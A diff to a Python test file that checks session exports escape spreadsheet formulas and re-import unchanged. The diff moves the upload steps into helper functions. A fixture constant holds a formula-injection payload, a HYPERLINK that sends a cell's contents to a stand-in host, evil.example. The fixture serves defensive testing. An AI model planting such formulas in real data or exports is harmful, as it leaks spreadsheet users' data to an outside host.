@@ -18,6 +18,7 @@ from region.dashboard import Filters, region_dashboard
 from sessions.models import TrainingSession
 from tests.accounts.factories import UserFactory
 from tests.catalogue.factories import ActionFactory, ActionLabelFactory, FormationFactory, TrainingPlaceFactory
+from tests.exchange.uploads import confirm_upload, upload_and_check
 from tests.sessions.factories import TrainingSessionFactory
 
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"Cliquez ici")'
@@ -114,9 +115,9 @@ def test_organisation_exports_hold_no_formula_and_upload_back_unchanged(client, 
     assert {row[2] for row in rows[1:]} == {"'" + HOSTILE_TITLE}  # shown as typed, apostrophe first
     before = list(TrainingSession.objects.order_by("pk").values())
     for name, data in (("sessions.csv", csv_data), ("sessions.xlsx", xlsx_data)):
-        html = client.post(reverse("backoffice:sessions_upload"), {"fichier": io.BytesIO(data) | _named(name)})
+        html = upload_and_check(client, {"fichier": io.BytesIO(data) | _named(name)})
         assert "0 session à créer, 0 à modifier, 2 inchangées" in html.content.decode(), name
-        client.post(reverse("backoffice:sessions_upload"), {"confirmer": "1"})
+        confirm_upload(client)
     assert list(TrainingSession.objects.order_by("pk").values()) == before
 
 
